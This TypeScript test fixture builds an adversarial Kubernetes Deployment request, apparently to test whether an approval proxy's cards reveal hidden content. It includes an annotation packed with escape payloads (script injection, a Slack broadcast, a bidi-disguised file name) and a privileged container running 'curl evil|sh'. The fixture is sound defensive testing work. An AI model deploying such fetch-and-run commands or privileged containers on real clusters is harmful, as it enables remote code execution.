import { createHash } from 'node:crypto';
import { buildApprovalCard } from '../../../../src/core/cards/build-approval-card.ts';
import type { ApprovalCard } from '../../../../src/core/cards/approval-card.ts';
import type { RequestRecord } from '../../../../src/core/lifecycle/request-record.ts';
import { findKind } from '../../../../src/core/requests/kinds.ts';
import type { ApiRequest } from '../../../../src/core/requests/request-types.ts';
import { describeApiCall } from '../../../../src/core/workflow/describe-api-call.ts';
import { filed, T0 } from '../lifecycle/fixtures.ts';

/**
 * A Deployment as `kubectl apply` POSTs it through the proxy, built to hide its real
 * content past a card's one line: harmless labels and an annotation that tries every
 * escape (a code fence, mrkdwn, a broadcast, `</pre>`, a bidi override) first, and
 * only after 300 characters a privileged container with a hostile command.
 */
export const HOSTILE_NOTE = 'x```*bold* <!channel> </pre><script>alert(1)</script> \u202egnp.exe & <b>';
export const EVIL_COMMAND = ['sh', '-c', 'curl evil|sh'] as const;

export const adversarialManifest = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: {
    name: 'api',
    namespace: 'prod-payments',
    labels: Object.fromEntries(
      Array.from({ length: 8 }, (_, i) => [`team-${String(i + 1).padStart(2, '0')}`, `owner-${i + 1}`]),
    ),
    annotations: { note: HOSTILE_NOTE },
  },
  spec: {
    replicas: 2,
    selector: { matchLabels: { app: 'api' } },
    template: {
      metadata: { labels: { app: 'api' } },
      spec: {
        containers: [
          {
            name: 'app',
            image: 'registry.example.com/app:1.4.2',
            command: [...EVIL_COMMAND],
            securityContext: { privileged: true },
          },
        ],
      },
    },
  },
};

/** The body exactly as kubectl sends it: compact JSON. */
export const adversarialBody = JSON.stringify(adversarialManifest);

/** The held kubectl request for {@link adversarialBody}. */
export function apiRequestWithBody(body: string): ApiRequest {
  const kind = findKind('deployment');
  if (!kind) throw new Error('deployment is a known kind');
  const bytes = Buffer.from(body, 'utf8');
  return {
    type: 'api',
    verb: 'create',
    resource: { group: 'apps', version: 'v1', resource: 'deployments' },
    kind,
    namespace: 'prod-payments',
    cluster: 'test',
    reason: 'run from kubectl through countersign proxy',
    breakGlass: false,
    call: {
      method: 'POST',
      path: '/apis/apps/v1/namespaces/prod-payments/deployments?fieldManager=kubectl-client-side-apply',
      contentType: 'application/json',
      body,
      bodyBytes: bytes.length,
      bodySha256: createHash('sha256').update(bytes).digest('hex'),
    },
  };
}

export const bodyRequest = apiRequestWithBody(adversarialBody);

export const bodyRecord: RequestRecord = filed({
  id: 'cs-b0dyadv01',
  request: bodyRequest,
  text: 'kubectl create deployments -n prod-payments (POST /apis/apps/v1/namespaces/prod-payments/deployments)',
  preview: describeApiCall(bodyRequest),
});

/** The card the core builds for it while it waits for approval. */
export const bodyCard: ApprovalCard = buildApprovalCard(bodyRecord, T0);
